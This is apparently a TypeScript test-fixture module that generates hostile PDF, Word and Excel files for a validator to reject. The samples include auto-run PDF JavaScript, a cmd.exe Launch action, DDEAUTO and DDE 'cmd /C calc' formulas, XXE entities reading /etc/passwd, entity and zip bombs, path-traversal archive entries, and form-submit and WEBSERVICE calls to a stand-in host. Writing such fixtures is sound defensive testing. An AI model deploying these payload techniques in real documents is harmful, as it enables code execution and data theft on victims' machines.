import { deflateSync } from "node:zlib";
import { docx, docxWithMacro } from "./files";
import type { HostileFile } from "./hostile-files";
import { rawWorkbook, rawWorkbookParts, SPREADSHEET_TYPES } from "./workbooks";
import { type ZipPart, zip } from "./zip";

type Make = (what: string, name: string, make: HostileFile["make"]) => HostileFile;

/** A PDF of these objects, with a catalogue as its first. */
export function pdfOf(catalogue: string, ...objects: string[]): Buffer {
  const all = [
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    "<</Type/Pages/Kids[]/Count 0>>",
    ...objects,
  ];
  const body = all.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join("");
  return Buffer.from(
    `%PDF-1.7\n${body}xref\n0 1\n0000000000 65535 f \ntrailer<</Size 9/Root 1 0 R>>\nstartxref\n9\n%%EOF\n`,
    "latin1",
  );
}

function packed(
  objects: string,
  dictionary = "/Type/ObjStm/Filter/FlateDecode",
  spoil = false,
): Buffer {
  const bytes = deflateSync(Buffer.from(objects));
  if (spoil) bytes.fill(0x55, 2);
  const whole = pdfOf(
    "",
    `<<${dictionary}/N 1/First 4/Length ${bytes.length}>>stream\n@@\nendstream`,
  );
  const at = whole.indexOf("@@");
  return Buffer.concat([whole.subarray(0, at), bytes, whole.subarray(at + 2)]);
}

function pdfFiles(make: Make): HostileFile[] {
  const script = "<</S/JavaScript/JS(app.alert(1))>>";
  const pdf = (what: string, catalogue: string, ...objects: string[]) =>
    make(`a PDF with ${what}`, "a.pdf", () => pdfOf(catalogue, ...objects));
  const more = (bytes: string) => () => Buffer.concat([pdfOf(""), Buffer.from(bytes, "latin1")]);
  return [
    make("a PDF cut off", "a.pdf", () => pdfOf("").subarray(0, 90)),
    make("a PDF's head alone", "a.pdf", () => Buffer.from("%PDF-1.7\n")),
    make("a PDF without a root", "a.pdf", () => Buffer.from("%PDF-1.7\nstartxref\n0\n%%EOF\n")),
    pdf("a script at its opening", "/OpenAction 3 0 R", script),
    pdf("a script by number", "/OpenAction 3 0 R", "<</S/#4aava#53cript/JS(1)>>"),
    pdf("a script for its pages", "/AA<</WC 3 0 R>>", script),
    pdf("a table of scripts", "/Names<</JavaScript 3 0 R>>", `<</Names[(a) ${script}]>>`),
    pdf("a script in what looks like a stream", "", `% >>stream\n${script}\n% endstream`),
    pdf("a command", "/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>"),
    pdf("a file inside", "/Names<</EmbeddedFiles 3 0 R>>", "<</Names[(a)<</EF<</F 4 0 R>>>>]>>"),
    pdf("a file inside by number", "/Names<</Embedded#46iles 3 0 R>>", "<</Names[]>>"),
    pdf("a file on a page", "", "<</Type/Annot/Subtype/FileAttachment/FS 4 0 R>>"),
    pdf("a film", "", "<</Type/Annot/Subtype/RichMedia>>"),
    pdf("a form of its own kind", "/AcroForm<</XFA 3 0 R>>", "<</Length 0>>stream\n\nendstream"),
    pdf("a form that sends itself", "/OpenAction<</S/SubmitForm/F(http://a.example)>>"),
    pdf("data fetched from elsewhere", "/OpenAction<</S/ImportData/F(a)>>"),
    pdf("a password", "", "<<>>", ">>trailer<</Encrypt 3 0 R/Root 1 0 R>>"),
    make("a PDF with a packed script", "a.pdf", () => packed(`3 0 ${script}`)),
    make("the same under a spelled name", "a.pdf", () =>
      packed(`3 0 ${script}`, "/Type/Obj#53tm/Filter/FlateDecode"),
    ),
    make("a PDF whose packed objects cannot be unpacked", "a.pdf", () =>
      packed("3 0 <<>>", undefined, true),
    ),
    make("a PDF whose packed objects are a bomb", "a.pdf", () =>
      packed(" ".repeat(70 * 1024 * 1024)),
    ),
    make("a PDF with an archive behind", "a.pdf", () =>
      Buffer.concat([pdfOf(""), zip([{ name: "a", data: "a" }])]),
    ),
    make("a PDF with a program behind", "a.pdf", more("MZ\u0090\u0000 and so on")),
    make("a PDF with a web page behind", "a.pdf", more("<html><script>1</script>")),
    make("a PDF with much behind", "a.pdf", more("x".repeat(4000))),
  ];
}

const WORD = "<w:document><w:body><w:p/></w:body></w:document>";
const TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

function word(body: string, ...more: ZipPart[]): Buffer {
  return zip([
    { name: "[Content_Types].xml", data: TYPES },
    { name: "word/document.xml", data: body },
    ...more,
  ]);
}

function relation(type: string, target: string): ZipPart {
  const data = `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  return { name: "word/_rels/document.xml.rels", data };
}

function field(...pieces: string[]): string {
  const runs = pieces.map(
    (piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`,
  );
  return `<w:document><w:body><w:p>${runs.join("")}</w:p></w:body></w:document>`;
}

function wordFiles(make: Make): HostileFile[] {
  const part = (what: string, name: string, data = "x") =>
    make(`a document with ${what}`, "a.docx", () => word(WORD, { name, data }));
  const body = (what: string, xml: string) =>
    make(`a document with ${what}`, "a.docx", () => word(xml));
  const far = (what: string, type: string, target = "http://a.example/b") =>
    make(`a document with ${what}`, "a.docx", () => word(WORD, relation(type, target)));
  const many = Array.from({ length: 1100 }, (_, at) => ({ name: `word/a${at}.xml`, data: "<a/>" }));
  return [
    make("a document cut off", "a.docx", () => docx().subarray(0, 200)),
    make("a document without its directory", "a.docx", () => docx().subarray(0, -60)),
    make("a document that unpacks to forty megabytes", "a.docx", () =>
      docx("0".repeat(40_000_000)),
    ),
    make("a document of a macro's type", "a.docx", docxWithMacro),
    part("a macro", "word/vbaProject.bin"),
    part("a control", "word/activeX/activeX1.bin"),
    part("a packed object", "word/embeddings/oleObject1.bin"),
    part("a packed workbook with macros", "word/embeddings/a.xlsm"),
    part("a program", "word/media/a.exe", "MZ"),
    part("a script", "word/media/a.js", "1"),
    part("a web page", "word/afchunk.html", "<script>1</script>"),
    part("a part outside its folder", "../../a.xml", "<a/>"),
    part("a part at the root of the disk", "/etc/passwd", "<a/>"),
    part("a part twice", "word/Document.xml", WORD),
    part("a part with a bomb of words", "word/settings.xml", `<!DOCTYPE a [${LAUGHS}]><a>&l9;</a>`),
    part(
      "a part that reads other files",
      "word/styles.xml",
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    ),
    far("a template from the network", "attachedTemplate"),
    far("an object from the network", "oleObject"),
    far("a picture from the network", "image"),
    far("a frame from the network", "frame"),
    far("a part from the network", "subDocument", "\\\\a.example\\b"),
    body("a call to a program", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    body("a call in pieces", field("DD", "E", "AUTO cmd")),
    body("a call in an attribute", '<w:document><w:fldSimple w:instr="DDE a b"/></w:document>'),
    body("text from the network", field("INCLUDETEXT http://a.example/b")),
    make("a document with a password flag", "a.docx", () =>
      word(WORD, { name: "word/a.xml", data: "a", isEncrypted: true }),
    ),
    make("a document with a wrong checksum", "a.docx", () =>
      word(WORD, { name: "word/a.xml", data: "a", declaredChecksum: 5 }),
    ),
    make("a document that lies about a size", "a.docx", () =>
      word(WORD, { name: "word/a.xml", data: "a".repeat(9000), declaredSize: 9 }),
    ),
    make("a document of a thousand parts", "a.docx", () => word(WORD, ...many)),
    make("a document with a program behind", "a.docx", () =>
      Buffer.concat([docx(), Buffer.from("MZ program")]),
    ),
    make("a document without types", "a.docx", () =>
      zip([{ name: "word/document.xml", data: WORD }]),
    ),
    make("a template with macros", "a.docx", () =>
      docx(
        WORD,
        TYPES.replace(
          "openxmlformats-officedocument.wordprocessingml.document",
          "ms-word.template.macroEnabledTemplate",
        ),
      ),
    ),
    make("a presentation", "a.pptx", () =>
      docx("<p/>", TYPES.replace("wordprocessingml.document", "presentationml.presentation")),
    ),
  ];
}

const LAUGHS = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "&l${at};&l${at};">`).join(
  "",
);
const SHEET = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>';

function workbookFiles(make: Make): HostileFile[] {
  const part = (what: string, name: string, data = "x") =>
    make(`a workbook with ${what}`, "a.xlsx", () =>
      rawWorkbook({ sheet: SHEET, extra: [{ name, data }] }),
    );
  const sheet = (what: string, xml: string) =>
    make(`a workbook with ${what}`, "a.xlsx", () => rawWorkbook({ sheet: xml }));
  const typed = (types: string) => () =>
    zip([
      { name: "[Content_Types].xml", data: types },
      ...rawWorkbookParts({ sheet: SHEET }).slice(1),
    ]);
  const formula = (words: string) =>
    `<sheetData><row r="1"><c r="A1"><f>${words}</f></c></row></sheetData>`;
  const MAIN = "openxmlformats-officedocument.spreadsheetml.sheet.main";
  return [
    make("a workbook cut off", "a.xlsx", () => rawWorkbook({ sheet: SHEET }).subarray(0, 500)),
    make(
      "a workbook with macros",
      "a.xlsx",
      typed(SPREADSHEET_TYPES.replace(MAIN, "ms-excel.sheet.macroEnabled.main")),
    ),
    make(
      "a binary workbook",
      "a.xlsx",
      typed(
        SPREADSHEET_TYPES.replace(
          `application/vnd.${MAIN}+xml`,
          "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
        ),
      ),
    ),
    part("a macro", "xl/vbaProject.bin"),
    part("an old macro sheet", "xl/macrosheets/sheet1.xml"),
    part("links to other files", "xl/externalLinks/externalLink1.xml"),
    part("a connection", "xl/connections.xml"),
    part("a query", "xl/queryTables/queryTable1.xml"),
    part("a packed object", "xl/embeddings/oleObject1.bin"),
    part("a control", "xl/activeX/activeX1.xml"),
    sheet("a call to a program", formula("cmd|&apos; /C calc&apos;!A0")),
    sheet("a call to the network", formula('WEBSERVICE("http://a.example")')),
    sheet("a million million cells", '<dimension ref="A1:ZZZ99999999"/><sheetData/>'),
    sheet("a row beyond the last", '<sheetData><row r="99999999"/></sheetData>'),
    sheet("a column beyond the last", '<cols><col min="1" max="99999999"/></cols><sheetData/>'),
    make("a workbook that unpacks to fifty megabytes", "a.xlsx", () =>
      rawWorkbook({ sheet: " ".repeat(50_000_000) }),
    ),
    make("a workbook with a wrong checksum", "a.xlsx", () =>
      rawWorkbook({ sheet: SHEET, extra: [{ name: "xl/a.xml", data: "a", declaredChecksum: 1 }] }),
    ),
    make("a workbook with a password flag", "a.xlsx", () =>
      rawWorkbook({ sheet: SHEET, extra: [{ name: "xl/a.xml", data: "a", isEncrypted: true }] }),
    ),
  ];
}

/** Documents, workbooks and PDFs that must be refused. */
export function hostileOfficeFiles(make: Make): HostileFile[] {
  return [...pdfFiles(make), ...wordFiles(make), ...workbookFiles(make)];
}
